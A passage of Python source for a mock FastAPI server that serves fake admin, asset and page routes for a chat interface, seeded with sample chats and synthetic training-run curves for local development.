        found = house.runs.get(f"{ladder}/{run}")
        if found is None:
            raise missing()
        return found


def _admin_routes(app: FastAPI, house: Any) -> None:
    @app.get("/api/admin/people")
    async def people() -> dict[str, Any]:
        return {"data": list(house.admin.people.values()), "next": None}

    @app.patch("/api/admin/people/{pid}")
    async def change_person(pid: str, request: Request) -> dict[str, Any]:
        house.admin.people[pid] |= await request.json()
        return house.admin.people[pid]

    @app.get("/api/admin/invitations")
    async def invitations() -> dict[str, Any]:
        return {"data": list(house.admin.invitations.values()), "next": None}

    @app.post("/api/admin/invitations")
    async def invite(request: Request) -> dict[str, Any]:
        made = await request.json() | {"id": house.ids.new("invitation"), "created_at": stamp()}
        house.admin.invitations[made["id"]] = made
        return made | {"secret": "invite-once"}

    @app.delete("/api/admin/invitations/{iid}")
    async def drop_invitation(iid: str) -> Response:
        house.admin.invitations.pop(iid, None)
        return Response(status_code=204)

    @app.get("/api/admin/keys")
    async def keys() -> dict[str, Any]:
        return {"data": [key | {"owner": "Ada"} for key in house.keys.values()], "next": None}

    @app.get("/api/admin/models")
    async def models() -> dict[str, Any]:
        return {
            "data": [m | {"state": "loaded", "memory_bytes": 270_000_000, "requests": 12} for m in MODELS],
            "next": None,
        }

    @app.get("/api/admin/generations")
    async def generations() -> dict[str, Any]:
        running = [
            {"id": g.id, "chat_id": g.chat, "person": "Ada", "model": g.message["model"], "state": g.message["state"],
             "started_at": g.message["created_at"], "tokens": len(g.events)}
            for g in house.generations.values() if not g.over
        ]  # fmt: skip
        return {"data": running, "next": None}

    @app.post("/api/admin/generations/{gid}/cancel")
    async def cancel(gid: str) -> Response:
        generation = house.generations[gid]
        house.stop(generation, len(generation.message["content"]))
        return Response(status_code=204)

    @app.get("/api/admin/settings")
    async def settings() -> dict[str, Any]:
        return house.admin.settings

    @app.put("/api/admin/settings")
    async def change_settings(request: Request) -> dict[str, Any]:
        house.admin.settings |= await request.json()
        return house.admin.settings

    @app.get("/api/admin/rules")
    async def rules() -> dict[str, Any]:
        return {"data": list(house.admin.rules.values()), "next": None}

    @app.post("/api/admin/rules")
    async def new_rule(request: Request) -> dict[str, Any]:
        rule = {"enabled": True} | await request.json() | {"id": house.ids.new("rule")}
        house.admin.rules[rule["id"]] = rule
        return rule

    @app.patch("/api/admin/rules/{rid}")
    async def change_rule(rid: str, request: Request) -> dict[str, Any]:
        house.admin.rules[rid] |= await request.json()
        return house.admin.rules[rid]

    @app.delete("/api/admin/rules/{rid}")
    async def drop_rule(rid: str) -> Response:
        del house.admin.rules[rid]
        return Response(status_code=204)

    @app.post("/api/admin/rules/try")
    async def try_rule(request: Request) -> dict[str, Any]:
        text = (await request.json())["text"]
        met = [
            r for r in house.admin.rules.values() if r.get("pattern") and r["pattern"].lower() in text.lower()
        ]
        return {"data": [{"rule": rule} for rule in met], "next": None}

    @app.get("/api/admin/held")
    async def held() -> dict[str, Any]:
        return {"data": list(house.admin.held.values()), "next": None}

    @app.post("/api/admin/held/{hid}")
    async def decide(hid: str, request: Request) -> dict[str, Any]:
        return house.admin.held.pop(hid) | await request.json()

    @app.get("/api/admin/audit")
    async def audit() -> dict[str, Any]:
        return {"data": house.admin.audit, "next": None, "broken": house.admin.broken}


def _page_routes(app: FastAPI, house: Any) -> None:
    @app.get("/assets/{name:path}")
    async def asset(name: str) -> Response:
        path = (BUILT / "assets" / name).resolve()
        if not path.is_file() or not path.is_relative_to(BUILT):
            return Response(status_code=404)
        return FileResponse(path)

    @app.get("/{rest:path}")
    async def page(rest: str) -> Response:
        if rest.startswith("api/"):
            raise missing()
        return FileResponse(BUILT / "index.html", headers={"cache-control": "no-cache"})


class Door:
    """Stands for the house that is open now, so that one running server can serve one house after the other."""

    def __init__(self, house: House) -> None:
        object.__setattr__(self, "house", house)

    def open(self, house: House) -> None:
        object.__setattr__(self, "house", house)

    def __getattr__(self, name: str) -> Any:
        return getattr(object.__getattribute__(self, "house"), name)

    def __setattr__(self, name: str, value: Any) -> None:
        setattr(object.__getattribute__(self, "house"), name, value)


def furnish(house: House) -> None:
    """A few chats and a climb, so that there is something to look at."""
    titles = [
        ("Why the sky is blue", "Explain to a child why the sky is blue", "Light from the sun looks white, but it is made of **many colours**.\n\nWhen it meets the air, the blue part is scattered most, so blue comes to your eyes from everywhere.\n\n- Red light goes straight on.\n- Blue light bounces around.\n\nIn the evening, the light travels a longer way, and the blue is gone before it reaches you."),
        ("Sorting in Python", "Show me how to sort a list of people by age", "Use `sorted` with a key:\n\n```python\npeople = [(\"Mira\", 31), (\"Tom\", 24)]\nfor name, age in sorted(people, key=lambda p: p[1]):\n    print(f\"{name} is {age}\")\n```\n\nIt leaves the list as it is; `people.sort(...)` changes it in place."),
        ("Dinner for two", "Give me three ideas for dinner tonight", "1. Pasta with lemon and peas\n2. A warm lentil salad\n3. Tomato soup with toast"),
        ("西红柿炒鸡蛋", "西红柿炒鸡蛋怎么做？", "先把鸡蛋打散炒熟盛出，再炒西红柿，出汁后把鸡蛋倒回去，加盐和一点糖。"),
        ("The quadratic formula", "Where does the quadratic formula come from?", "Complete the square in $ax^2+bx+c=0$:\n\n$$x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}$$"),
    ]  # fmt: skip
    for i, (title, question, answer) in enumerate(titles):
        chat = house.new_chat(title=title)
        user = house.new_message(chat["id"], "user", question, None)
        house.new_message(
            chat["id"], "assistant", answer, user["id"], model="smollm2", seed=7, finish_reason="stop",
            usage={"prompt_tokens": 24, "completion_tokens": 81, "tokens_per_s": 41.3, "ttft_ms": 130.0, "context": 2048, "dropped_messages": 0},
        )  # fmt: skip
        chat["updated_at"] = stamp(-i * 40_000)
    folder = {"id": house.ids.new("folder"), "parent_id": None, "name": "Cooking", "position": 0}
    house.folders[folder["id"]] = folder
    climbing(house)


def climbing(house: House) -> None:
    def stage(name: str, state: str, step: int, steps: int, left: float | None) -> dict[str, Any]:
        run = f"town/{name}" if state != "waiting" else None
        talk = run if state == "done" and name != "reward" else None
        return {"name": name, "state": state, "step": step, "steps": steps, "elapsed_s": step * 0.1, "left_s": left,
                "run": run, "chat_model": talk}  # fmt: skip

    stages = [
        stage("pretrain", "done", 600, 600, 0),
        stage("sft", "running", 140, 400, 26.0),
        stage("reward", "waiting", 0, 300, None),
        stage("ppo", "waiting", 0, 200, None),
    ]
    house.climbs = [
        {
            "name": "town",
            "world": "town",
            "state": "running",
            "stages": stages,
            "left_s": 244.0,
            "report": None,
        }
    ]
    for name, steps in (("pretrain", 600), ("sft", 140)):
        loss = [
            [s, round(1.1 + 3.2 * 0.985**s + 0.08 * ((s * 7919) % 13 - 6) / 6, 4)]
            for s in range(0, steps + 1, 4)
        ]
        house.runs[f"town/{name}"] = {
            "stage": {"name": name}, "state": "done" if name == "pretrain" else "running",
            "series": {"loss": loss, "val_bits_per_byte": [[s, round(v * 0.6, 4)] for s, v in loss[::10]], "grad_norm": [[s, round(0.4 + 2 * 0.98**s, 4)] for s, _ in loss], "tokens_per_s": [[s, 21000 + 300 * (s % 7)] for s, _ in loss]},
            "bands": {"loss": [0.8, 1.6]},
            "samples": [{"step": s, "prompt": "Where does Mira live?", "text": t} for s, t in ((0, "the the lamp of of"), (steps // 2, "Mira lives by the"), (steps, "Mira lives by the canal, in the house with the green door."))],
            "doctor": [{"step": 40, "severity": "ok", "text": "The loss falls as it should."}, {"step": steps, "severity": "hint", "text": "The learning rate could be a little higher."}],
            "settings": {"batch size": 32, "learning rate": 0.001, "steps": 600},
        }  # fmt: skip


def main() -> None:
    import uvicorn

    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=8765)
    parser.add_argument("--mode", default="local", choices=["local", "accounts", "setup"])
    given = parser.parse_args()
    house = House(mode=given.mode, delay_s=0.03)
    furnish(house)
    uvicorn.run(create_fake(house), port=given.port, log_level="warning")


if __name__ == "__main__":
    main()
